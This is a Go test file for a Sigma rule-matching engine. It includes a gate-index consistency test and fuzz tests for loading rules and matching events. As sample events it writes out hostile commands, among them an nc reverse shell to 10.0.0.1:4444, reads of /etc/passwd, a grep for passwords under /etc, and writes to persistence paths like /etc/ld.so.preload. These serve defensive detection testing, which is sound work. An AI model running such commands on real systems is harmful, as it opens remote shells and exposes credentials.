package sigma

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/lineaged/lineaged/event"
)

// matchAll is Match without the gate index: every rule of the logsource is
// evaluated. Match must agree with it.
func matchAll(s *Set, e *event.Event) []Match {
	if e.Kind == event.KindAlert {
		return nil
	}
	st := newState(len(s.getters), 0)
	st.reset(e, s.getters)
	var out []Match
	if e.Action == "executed" && e.Outcome != "failure" {
		for _, r := range s.process.rules {
			if st.eval(r.root) {
				out = append(out, Match{r.info})
			}
		}
	}
	for _, r := range s.auditd.rules {
		if st.eval(r.root) {
			out = append(out, Match{r.info})
		}
	}
	return out
}

func checkMatch(t *testing.T, s *Set, e *event.Event) {
	t.Helper()
	got, want := s.Match(e), matchAll(s, e)
	paths := func(ms []Match) (p []string) {
		for _, m := range ms {
			p = append(p, m.Path)
		}
		return p
	}
	if !slices.Equal(paths(got), paths(want)) {
		t.Fatalf("Match %v, every rule evaluated %v (event %+v)", paths(got), paths(want), e)
	}
	for _, m := range got {
		if m.Logsource == lsProcess && e.Action != "executed" {
			t.Fatalf("process_creation rule %s matched a %q event", m.Path, e.Action)
		}
	}
}

// TestGateAgrees checks the gate index against evaluating every rule, on
// the events of the other tests.
func TestGateAgrees(t *testing.T) {
	s := loadPublic(t)
	evs := benchEvents()
	for _, c := range []string{"nc -e /bin/bash 10.0.0.1 4444", "chmod 777 /tmp/x", "vim /tmp/.hidden", "uname -a", "id", "grep -ri password /etc",
		"iptables -t nat -A PREROUTING -p tcp -j REDIRECT --to-ports 42391", "tar -czf a.tgz dir", "cat /etc/passwd", "crontab -l"} {
		a := strings.Fields(c)
		evs = append(evs, execEvent("/usr/bin/"+a[0], a...))
	}
	for _, p := range []string{"/etc/ld.so.preload", "/home/bob/.bashrc", "/etc/systemd/system/x.service", "/etc/os-release", "/etc/audit/auditd.conf"} {
		evs = append(evs, fileEvent("wrote-to-file", "openat", p, "CREATE"))
	}
	for _, e := range evs {
		checkMatch(t, s, e)
	}
}

// publicSeeds adds the public rules, cut to what Load reads (small seeds
// keep minimising fast).
func publicSeeds(f *testing.F) {
	keep := map[string]bool{"title": true, "id": true, "level": true, "tags": true, "logsource": true, "detection": true}
	filepath.WalkDir(publicRules, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		var out []string
		in := false
		for _, l := range strings.Split(string(b), "\n") {
			if l != "" && l[0] != ' ' {
				key, _, _ := strings.Cut(l, ":")
				in = keep[key]
			}
			if in {
				out = append(out, l)
			}
		}
		f.Add([]byte(strings.Join(out, "\n")))
		return nil
	})
	f.Add([]byte(okRule))
	f.Add([]byte("title: x\nlogsource: {product: linux, service: auditd}\ndetection:\n  a: &x {type: EXECVE}\n  b: *x\n  k: ['a*b', 'c?d\\\\*']\n  condition: (a or not b) and all of them and 1 of k*\n"))
	f.Add([]byte("title: x\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {'|all': [a, b], Image: ~, CommandLine|re|i: '^A.*'}, condition: s}\n"))
}

// FuzzLoad loads one rule file of fuzzed bytes: Load never fails on a
// readable dir, the file is loaded or skipped with a one-line reason, and
// what loads can be matched without panicking (and agrees with
// evaluating every rule).
func FuzzLoad(f *testing.F) {
	publicSeeds(f)
	evs := []*event.Event{execEvent("/usr/bin/a", "a", "b"), execEvent("/tmp/x", "x", "-e", "/bin/sh"),
		fileEvent("created", "openat", "/home/x/.bashrc", "CREATE"), benchEvents()[len(benchEvents())-1]}
	dir := f.TempDir() // one per fuzzing process: t.TempDir per input makes minimising crawl
	f.Fuzz(func(t *testing.T, rule []byte) {
		if err := os.WriteFile(filepath.Join(dir, "rule.yml"), rule, 0o644); err != nil {
			t.Fatal(err)
		}
		s, err := Load(dir)
		if err != nil {
			t.Fatal(err)
		}
		if n := len(s.Rules()) + len(s.Skipped()); n != 1 {
			t.Fatalf("%d rules + skipped, want 1", n)
		}
		for _, sk := range s.Skipped() {
			if sk.Reason == "" || strings.ContainsAny(sk.Reason, "\n\r") {
				t.Fatalf("bad reason %q", sk.Reason)
			}
		}
		for _, e := range evs {
			checkMatch(t, s, e)
		}
	})
}

// FuzzMatch matches events with fuzzed fields against the public rules.
func FuzzMatch(f *testing.F) {
	s := loadPublic(f)
	f.Add("/usr/bin/nc", "nc -e /bin/bash 10.0.0.1 4444", "bash -i", "/etc/ld.so.preload", "EXECVE", "execve", "susp_activity", "4", true)
	f.Add("/usr/bin/chmod", "chmod 777 /tmp/x", "", "/home/a/.bashrc", "PATH", "openat", "", "", false)
	f.Add("/home/u/public_html/x", "", "", "", "SERVICE_STOP", "syslog", "network_connect_4", "40000", false)
	f.Fuzz(func(t *testing.T, exe, cmd, parent, path, rtype, syscall, key, a0 string, exec bool) {
		e := execEvent(exe, strings.Fields(cmd)...)
		e.Parent.Args = strings.Fields(parent)
		e.File.Path = path
		e.Audit.RecordTypes = append(e.Audit.RecordTypes, rtype)
		e.Audit.Syscall = syscall
		e.Audit.Keys = []string{key}
		e.Audit.Data = append(e.Audit.Data, event.KV{Key: "a0", Value: a0}, event.KV{Key: "unit", Value: a0})
		if !exec {
			e.Action = "opened-file"
		}
		checkMatch(t, s, e)
		e.Parent, e.File, e.Audit = nil, nil, nil
		checkMatch(t, s, e)
	})
}
